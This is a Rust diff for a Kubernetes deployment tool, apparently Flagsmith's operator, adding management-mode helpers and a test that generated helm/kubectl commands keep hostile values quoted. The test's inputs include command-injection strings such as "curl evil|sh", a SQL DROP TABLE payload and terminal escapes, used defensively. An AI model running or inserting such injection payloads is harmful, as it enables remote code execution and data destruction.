@@ -10,10 +10,12 @@ mod resource;
 use std::fmt::Write as _;
 
 pub use change::Change;
+use change::key;
+
 use crate::{
     api::RETRY_MIGRATION_ANNOTATION,
     model::{Component, shell},
-    validate::{Identity, SecretKey},
+    validate::Identity,
 };
 
 /// What the owner of an installation changes it with.
@@ -122,6 +124,36 @@ impl ManagedBy {
         }
     }
 
+    /// A field of the specification with its value, where there is one, or else another way.
+    pub fn field_or(&self, field: &str, otherwise: impl FnOnce() -> String) -> String {
+        match self {
+            Self::Operator => format!("Set {field}"),
+            Self::Helm { .. } | Self::Manifests { .. } => otherwise(),
+        }
+    }
+
+    /// By which name its owner sets a variable of a component; `None` where the operator decides it.
+    #[must_use]
+    pub fn setting(&self, component: Component, variable: &'static str) -> Option<&'static str> {
+        match self {
+            Self::Operator => {
+                resource::own_field(variable).filter(|field| field.split('.').nth(1) == Some(key(component)))
+            }
+            Self::Helm { .. } | Self::Manifests { .. } => Some(variable),
+        }
+    }
+
+    /// Where its owner says which proxy stands in front, and what its timeouts are.
+    #[must_use]
+    pub const fn proxy(&self) -> &'static str {
+        match self {
+            Self::Operator => "spec.exposure.proxy",
+            Self::Helm { .. } | Self::Manifests { .. } => {
+                "spec.observe.proxy of a FlagsmithDeployment with mode Observed"
+            }
+        }
+    }
+
     /// Whether the operator itself makes the objects.
     #[must_use]
     pub const fn is_operator(&self) -> bool {
@@ -159,6 +191,57 @@ mod tests {
     )]
     fn says_the_same_in_each_tool(#[case] managed_by: ManagedBy, #[case] expected: &str) {
         assert_eq!(managed_by.change(&CHANGES), expected);
+    }
+
+    /// Values of variables, arguments and annotations were written by whoever may change those objects, and are pasted
+    /// into the shell of whoever reads the remedy.
+    #[rstest]
+    fn a_hostile_value_stays_within_its_quotes(
+        #[values(
+            "9'; curl evil|sh; echo '",
+            "\"; DROP TABLE t; --",
+            "a\u{1b}[2J\nb",
+            "x;curl evil|sh"
+        )]
+        value: &str,
+    ) {
+        let changes = [
+            Change::Env(Component::Api, "GUNICORN_CMD_ARGS", value),
+            Change::Start(Component::Api, &["start", "--name", value, "api"]),
+            Change::Annotation {
+                kind: "ingress",
+                name: "flagsmith",
+                values: Some("ingress.api.annotations"),
+                key: "example.com/timeout",
+                value,
+            },
+        ];
+        let kubectl = ManagedBy::Manifests {
+            namespace: "prod".to_owned(),
+            deployments: [const { None }; 3],
+        };
+        for managed_by in [helm(), kubectl] {
+            let command = managed_by.change(&changes);
+            let outside: String = command.replace(r"'\''", "").split('\'').step_by(2).collect();
+            assert!(
+                !outside.contains("evil") && !outside.contains("DROP"),
+                "{command}"
+            );
+            assert!(!command.contains(char::is_control), "{command}");
+        }
+    }
+
+    #[test]
+    fn a_list_of_hosts_is_one_value_of_the_chart() {
+        let command = helm().change(&[Change::Env(
+            Component::Api,
+            "DJANGO_ALLOWED_HOSTS",
+            "a.example,b.example",
+        )]);
+        assert!(
+            command.ends_with(r"--set-string 'api.extraEnv.DJANGO_ALLOWED_HOSTS=a.example\,b.example'"),
+            "{command}"
+        );
     }
 
     #[test]
